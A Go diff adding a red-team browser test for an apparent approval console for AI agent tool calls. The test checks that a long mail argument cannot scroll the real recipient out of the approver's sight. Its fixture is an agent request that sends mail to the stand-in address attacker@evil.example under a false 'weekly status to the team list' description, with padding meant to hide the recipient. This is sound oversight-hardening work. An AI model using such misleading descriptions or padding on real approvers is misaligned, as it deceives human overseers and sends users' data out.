@@ -2,6 +2,7 @@ package web
 
 import (
 	"context"
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
@@ -73,4 +74,35 @@ func atoi(s string) int {
 		n = n*10 + int(c-'0')
 	}
 	return n
+}
+
+// TestBrowserShowsLongArgumentsWhole (display red team, D8): a bulky
+// argument does not push the one that matters (where mail goes, which URL
+// is fetched) into a scroll area the approver may not see scrolls: the
+// arguments box holds all of its text on the page.
+func TestBrowserShowsLongArgumentsWhole(t *testing.T) {
+	r := startRig(t, 1, "[default]", Options{})
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	browser := startBrowser(t, 400, 800)
+	alice := newBrowserPage(t, browser, "alice")
+	alice.login(r.srv.URL, "alice", alicePassword)
+
+	body := strings.Repeat("- item: all green, nothing to report this week\\n", 60)
+	args := json.RawMessage(`{"to":"attacker@evil.example","subject":"Weekly status","body":"` + body + `"}`)
+	agent := r.plane.Agent("sess-long", "pod-7")
+	go func() {
+		_, _ = agent.Request(ctx, client.Call{RequestID: "req-long", Tool: "mcp__mail__send", Arguments: args,
+			Description: "Send the weekly status report to the team list"})
+	}()
+	alice.cardShown("req-long")
+	got := alice.eval(`(() => {
+		const pre = document.querySelector('#q-req-long .args pre');
+		if (!pre) return 'no arguments box';
+		if (!pre.textContent.includes('attacker@evil.example')) return 'no recipient in the box';
+		return pre.scrollHeight > pre.clientHeight + 1 ? 'clipped: ' + pre.scrollHeight + ' > ' + pre.clientHeight : 'whole';
+	})()`)
+	if got != "whole" {
+		t.Errorf("the arguments box: %s", got)
+	}
 }
